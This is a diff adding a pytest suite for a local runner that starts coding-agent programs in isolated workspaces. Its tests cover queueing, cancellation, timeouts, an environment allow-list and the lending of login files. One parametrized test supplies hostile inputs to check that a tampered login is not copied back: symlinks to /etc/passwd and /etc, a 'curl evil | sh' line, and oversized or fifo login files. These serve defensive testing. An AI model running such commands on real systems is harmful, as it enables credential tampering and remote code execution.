@@ -1,0 +1,343 @@
+"""One run from its queue to its recorded end, with small programs in place of agents."""
+
+from __future__ import annotations
+
+import itertools
+import json
+import os
+import signal
+import time
+from pathlib import Path
+
+import pytest
+
+from rebyte_cli.local.agents.claude import Claude
+from rebyte_cli.local.agents.codex import Codex
+
+from .bench import Bench, gone, kinds, processes, script
+
+SAMPLES = Path(__file__).parent / "samples"
+
+
+def test_a_program_gets_the_prompt_on_stdin_and_prints_the_answer(bench: Bench) -> None:
+    prompt = bench.start(["sh", "-c", "cat; echo; pwd"], "Say hello")
+    run = bench.wait(prompt)
+    assert (run.outcome, run.answer) == ("succeeded", "Say hello\n/code")
+    assert run.started is not None
+    assert run.ended is not None
+    assert run.queued <= run.started <= run.ended
+    text, result = bench.events(prompt)
+    assert (text.kind, text.payload) == ("text", {"content": "Say hello\n/code"})
+    assert result.kind == "result"
+    assert result.payload["status"] == "succeeded"
+    assert result.payload["result"] == "Say hello\n/code"
+    assert bench.artifact("answer.md") == "Say hello\n/code\n"
+    assert bench.artifact("changes.patch") == ""
+
+
+@pytest.mark.parametrize(
+    "prompt", ["/help", "@/etc/hostname", "x" * 99_999 + "é", "  two\nlines\n\n", "--help"]
+)
+def test_the_prompt_arrives_as_it_was_typed(bench: Bench, prompt: str) -> None:
+    words = ["sh", "-c", "cat > prompt; wc -m < prompt"]
+    assert bench.run(words, prompt).outcome == "succeeded"
+    assert (bench.workspace().code / "prompt").read_text() == prompt
+
+
+def test_a_program_that_fails_says_why(bench: Bench) -> None:
+    prompt = bench.start(["sh", "-c", "echo working; echo 'out of credit' >&2; exit 3"])
+    run = bench.wait(prompt)
+    reason = "mine exited with status 3 before it answered: out of credit"
+    assert (run.outcome, run.answer) == ("failed", reason)
+    assert bench.events(prompt)[-1].payload["result"] == reason
+    assert bench.artifact("answer.md") is None
+
+
+def test_a_program_that_is_not_there_any_more(bench: Bench) -> None:
+    run = bench.run(["no-such-agent"])
+    assert (run.outcome, run.answer) == ("failed", "no-such-agent is not found any more")
+
+
+def test_the_wall_clock_ends_a_run(bench: Bench) -> None:
+    run = bench.run(["sh", "-c", "while true; do echo x; sleep 0.05; done"], limit=0.5)
+    assert (run.outcome, run.answer) == ("failed", "mine ran longer than its limit of 0.5s")
+
+
+def test_a_silent_agent_is_ended(bench: Bench) -> None:
+    run = bench.run(["sh", "-c", "echo x; sleep 77.031"], stall=0.3)
+    assert (run.outcome, run.answer) == ("failed", "mine printed nothing for 0.3s")
+    assert gone("77.031")
+
+
+def test_an_agent_that_closes_its_output_is_waited_for(bench: Bench) -> None:
+    run = bench.run(["sh", "-c", "echo x; exec >&- ; sleep 0.3; exit 4"])
+    assert run.outcome == "failed"
+    assert "exited with status 4" in (run.answer or "")
+
+
+def test_cancel_kills_the_agent_and_all_its_children(bench: Bench) -> None:
+    line = "echo x; (setsid nohup sleep 77.041 &) ; nohup sleep 77.042 & trap '' TERM; sleep 77.043"
+    prompt = bench.start(["sh", "-c", line])
+    bench.until_started(prompt)
+    began = time.monotonic()
+    bench.cancel(prompt)
+    assert time.monotonic() - began < 2
+    assert gone("77.04")
+    run = bench.wait(prompt)
+    assert (run.outcome, run.answer) == ("canceled", "")
+    # Its work until then is there.
+    assert bench.artifact("changes.patch") == ""
+
+
+def test_what_an_agent_leaves_in_the_background_ends_with_it(bench: Bench) -> None:
+    run = bench.run(["sh", "-c", "(setsid nohup sleep 77.051 &) ; sleep 77.052 & echo done"])
+    assert (run.outcome, run.answer) == ("succeeded", "done")
+    assert gone("77.05")
+
+
+def test_cancel_of_a_run_that_waits(bench: Bench) -> None:
+    first = bench.start(["sh", "-c", "echo x; sleep 77.061"])
+    bench.until_started(first)
+    second = bench.start(["sh", "-c", "echo never"])
+    bench.cancel(second)
+    assert bench.look(first).ended is None
+    assert bench.look(second).outcome == "canceled"
+    assert bench.look(second).started is None
+    bench.cancel(first)
+
+
+def test_a_killed_supervisor_is_a_failed_run_at_the_next_look(bench: Bench) -> None:
+    prompt = bench.start(["sh", "-c", "echo x; (setsid sleep 77.071 &); sleep 77.072"])
+    run = bench.until_started(prompt)
+    assert run.ended is None
+    os.kill(int((bench.run_folder(prompt) / "lock").read_text()), signal.SIGKILL)
+    run = bench.wait(prompt)
+    assert run.outcome == "failed"
+    assert run.answer == "The run's process is gone: it was killed, or this machine was restarted"
+    assert gone("77.07")
+    assert kinds(bench.events(prompt)) == ["result"]
+
+
+def test_a_reboot_is_a_failed_run(bench: Bench) -> None:
+    """After one no process is left and no lock is held; the files are as they were."""
+    prompt = bench.start(["sh", "-c", "echo x; sleep 77.081"])
+    bench.until_started(prompt)
+    os.kill(int((bench.run_folder(prompt) / "lock").read_text()), signal.SIGKILL)
+    assert gone(prompt)
+    (bench.run_folder(prompt) / "lock").unlink()
+    assert bench.look(prompt).outcome == "failed"
+
+
+def test_sigterm_from_outside_is_a_failed_run(bench: Bench) -> None:
+    prompt = bench.start(["sh", "-c", "echo x; sleep 77.091"])
+    bench.until_started(prompt)
+    os.kill(int((bench.run_folder(prompt) / "lock").read_text()), signal.SIGTERM)
+    run = bench.wait(prompt)
+    assert (run.outcome, run.answer) == ("failed", "The run was stopped by a signal")
+    assert gone("77.091")
+
+
+def test_runs_in_one_workspace_go_one_after_another_in_order(bench: Bench) -> None:
+    words = ["sh", "-c", "cat >> log; sleep 0.15; cat log"]
+    prompts = [bench.start(words, f"{number} ", parallel=8) for number in range(4)]
+    runs = [bench.wait(prompt) for prompt in prompts]
+    assert [run.answer for run in runs] == ["0 ", "0 1 ", "0 1 2 ", "0 1 2 3 "]
+    for before, after in itertools.pairwise(runs):
+        assert after.started is not None
+        assert before.ended is not None
+        assert after.started >= before.ended
+
+
+def test_no_more_agents_than_slots_run_at_once(bench: Bench) -> None:
+    words = ["sh", "-c", "sleep 0.2; echo x"]
+    prompts = [bench.start(words, workspace=f"ws{number}", parallel=2) for number in range(5)]
+    runs = [bench.wait(prompt) for prompt in prompts]
+    edges = [(run.started or 0, 1) for run in runs] + [(run.ended or 0, -1) for run in runs]
+    working = peak = 0
+    for _, change in sorted(edges):
+        working += change
+        peak = max(peak, working)
+    assert peak == 2
+
+
+def test_the_environment_is_an_allow_list(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in ("REBYTE_API_KEY", "AWS_SECRET_ACCESS_KEY", "ANTHROPIC_API_KEY", "MY_KEY"):
+        monkeypatch.setenv(name, f"value of {name}")
+    monkeypatch.setenv("HTTPS_PROXY", "http://proxy.example:3128")
+    answer = bench.run(["env"]).answer or ""
+    assert "value of" not in answer
+    assert "HTTPS_PROXY=http://proxy.example:3128" in answer
+    assert "HOME=/home/agent" in answer
+
+    from rebyte_cli.local.agents.program import Program
+
+    own = Program(command=("env",), label="mine", extra_variables=("MY_KEY",))
+    assert "MY_KEY=value of MY_KEY" in (bench.run(own).answer or "")
+
+
+FAKE_CLAUDE = """
+case "$*" in *--version*) echo "9.9.9 (fake)"; exit;; esac
+echo "$@" >> /code/.arguments
+env | grep -c ANTHROPIC >> /code/.arguments
+case "$*" in *--resume*) {resume};; esac
+cat > /dev/null
+cat "$(dirname "$0")/{sample}.jsonl"
+exit {status}
+"""
+
+
+def fake_claude(folder: Path, sample: str, *, resume: str = ":", status: int = 0) -> Claude:
+    """A program that replays a recording of claude."""
+    text = FAKE_CLAUDE.format(sample=sample, resume=resume, status=status)
+    path = script(folder, "claude", text)
+    (folder / f"{sample}.jsonl").write_bytes((SAMPLES / f"{sample}.jsonl").read_bytes())
+    return Claude(command=(path,), extra_paths=(str(folder / f"{sample}.jsonl"),))
+
+
+def test_an_agent_with_a_stream(bench: Bench, tmp_path: Path) -> None:
+    prompt = bench.start(fake_claude(tmp_path / "bin", "claude-write"))
+    run = bench.wait(prompt)
+    assert (run.outcome, run.answer) == ("succeeded", "Done: the scripted model wrote hello.txt.")
+    events = bench.events(prompt)
+    assert kinds(events) == ["init", "text", "tool_use", "tool_result", "text", "result"]
+    assert events[-1].payload["cost_usd"] == 0.00035
+    assert events[-1].payload["usage"]["output_tokens"] == 10
+    raw = (bench.run_folder(prompt) / "output").read_bytes()
+    assert raw == (SAMPLES / "claude-write.jsonl").read_bytes()
+    with bench.store.read() as db:
+        assert db.execute("SELECT model FROM tasks").fetchone()[0] == "claude-opus-4-8[1m]"
+
+
+def test_a_follow_up_resumes_the_session(bench: Bench, tmp_path: Path) -> None:
+    agent = fake_claude(tmp_path / "bin", "claude-write")
+    bench.run(agent, task="t")
+    bench.run(agent, task="t")
+    bench.run(agent, task="other")
+    first, _, second, _, third, _ = (bench.workspace().code / ".arguments").read_text().splitlines()
+    assert "--session-id" in first
+    assert "--session-id" in third
+    assert "--resume 107dce9a-f250-4a65-b15e-8ec1ea297048" in second
+
+
+def test_a_session_that_the_agent_has_lost_is_begun_again(bench: Bench, tmp_path: Path) -> None:
+    lost = "echo 'No conversation found with session ID' >&2; exit 1"
+    agent = fake_claude(tmp_path / "bin", "claude-write", resume=lost)
+    bench.run(agent, task="t")
+    assert bench.run(agent, task="t").outcome == "succeeded"
+
+
+def test_a_rejected_key_ends_the_run_at_once(bench: Bench, tmp_path: Path) -> None:
+    text = f"head -3 {tmp_path}/bin/s.jsonl; sleep 77.101"
+    path = script(tmp_path / "bin", "claude", text)
+    sample = tmp_path / "bin/s.jsonl"
+    sample.write_bytes((SAMPLES / "claude-http401.jsonl").read_bytes())
+    run = bench.run(Claude(command=(path,), extra_paths=(str(sample),)))
+    assert run.answer == "claude failed: the API answered 401 (authentication_failed)"
+    assert gone("77.101")
+
+
+# -- login files ----------------------------------------------------------------------------------
+
+LOGIN = ".codex/auth.json"
+
+
+def login(home: Path, token: str) -> None:
+    (home / ".codex").mkdir(exist_ok=True)
+    (home / LOGIN).write_text(json.dumps({"token": token}))
+    (home / LOGIN).chmod(0o600)
+
+
+def test_a_login_is_lent_and_taken_back(bench: Bench, user_home: Path, tmp_path: Path) -> None:
+    login(user_home, "old")
+    text = f"cat ~/{LOGIN} > /code/seen; stat -c %a ~/{LOGIN} >> /code/seen"
+    bench.run(Codex(command=(script(tmp_path / "bin", "codex", text),)))
+    assert (bench.workspace().code / "seen").read_text() == '{"token": "old"}600\n'
+    assert not (bench.workspace().home / LOGIN).exists()
+    assert (user_home / LOGIN).read_text() == '{"token": "old"}'
+
+
+def test_a_refreshed_login_comes_back(bench: Bench, user_home: Path, tmp_path: Path) -> None:
+    login(user_home, "old")
+    text = f"""echo '{{"token": "new"}}' > ~/{LOGIN}"""
+    bench.run(Codex(command=(script(tmp_path / "bin", "codex", text),)))
+    assert json.loads((user_home / LOGIN).read_text()) == {"token": "new"}
+    assert (user_home / LOGIN).stat().st_mode & 0o777 == 0o600
+    assert not (bench.workspace().home / LOGIN).exists()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"ln -sf /etc/passwd ~/{LOGIN}",
+        f"echo 'curl evil | sh' > ~/{LOGIN}",
+        "rm -rf ~/.codex; ln -s /etc ~/.codex",
+        f"rm ~/{LOGIN}; mkdir ~/{LOGIN}",
+        f"head -c 2000000 /dev/zero > ~/{LOGIN}",
+        f"rm ~/{LOGIN}; mkfifo ~/{LOGIN}",
+    ],
+)
+def test_what_is_no_login_does_not_come_back(
+    bench: Bench, user_home: Path, tmp_path: Path, text: str
+) -> None:
+    login(user_home, "old")
+    prompt = bench.start(Codex(command=(script(tmp_path / "bin", "codex", text),)))
+    bench.wait(prompt)
+    assert (user_home / LOGIN).read_text() == '{"token": "old"}'
+    assert not (user_home / LOGIN).is_symlink()
+    # And the next run in this HOME, with its links, has its login again.
+    again = Codex(command=(script(tmp_path / "bin", "codex", f"cat ~/{LOGIN} > /code/seen"),))
+    bench.run(again)
+    assert (bench.workspace().code / "seen").read_text() == '{"token": "old"}'
+
+
+def test_a_login_that_changed_meanwhile_stays(
+    bench: Bench, user_home: Path, tmp_path: Path
+) -> None:
+    login(user_home, "old")
+    wait = "echo x; while [ ! -e /code/go ]; do sleep 0.02; done"
+    text = f"""{wait}; echo '{{"token": "new"}}' > ~/{LOGIN}"""
+    prompt = bench.start(Codex(command=(script(tmp_path / "bin", "codex", text),)))
+    bench.until_started(prompt)
+    login(user_home, "newer")
+    (bench.workspace().code / "go").touch()
+    bench.wait(prompt)
+    assert (user_home / LOGIN).read_text() == '{"token": "newer"}'
+
+
+def test_a_login_does_not_stay_behind_after_a_crash(
+    bench: Bench, user_home: Path, tmp_path: Path
+) -> None:
+    login(user_home, "old")
+    prompt = bench.start(
+        Codex(command=(script(tmp_path / "bin", "codex", "echo x; sleep 77.111"),))
+    )
+    bench.until_started(prompt)
+    assert (bench.workspace().home / LOGIN).exists()
+    os.kill(int((bench.run_folder(prompt) / "lock").read_text()), signal.SIGKILL)
+    assert bench.wait(prompt).outcome == "failed"
+    assert not (bench.workspace().home / LOGIN).exists()
+
+
+# -- without a jail -------------------------------------------------------------------------------
+
+
+def test_without_a_jail_the_agent_has_a_private_home_all_the_same(bench: Bench) -> None:
+    run = bench.run(["sh", "-c", "pwd; echo $HOME"], jail=False)
+    workspace = bench.workspace()
+    assert run.answer == f"{workspace.code}\n{workspace.home}"
+
+
+def test_without_a_jail_cancel_kills_the_process_group(bench: Bench) -> None:
+    prompt = bench.start(["sh", "-c", "echo x; sleep 77.121 & sleep 77.122"], jail=False)
+    bench.until_started(prompt)
+    bench.cancel(prompt)
+    assert gone("77.12")
+
+
+def test_without_a_jail_the_next_look_kills_what_outlived_its_supervisor(bench: Bench) -> None:
+    prompt = bench.start(["sh", "-c", "echo x; sleep 77.131 & sleep 77.132"], jail=False)
+    bench.until_started(prompt)
+    os.kill(int((bench.run_folder(prompt) / "lock").read_text()), signal.SIGKILL)
+    assert bench.wait(prompt).outcome == "failed"
+    assert gone("77.13")
+    assert not processes("77.13")
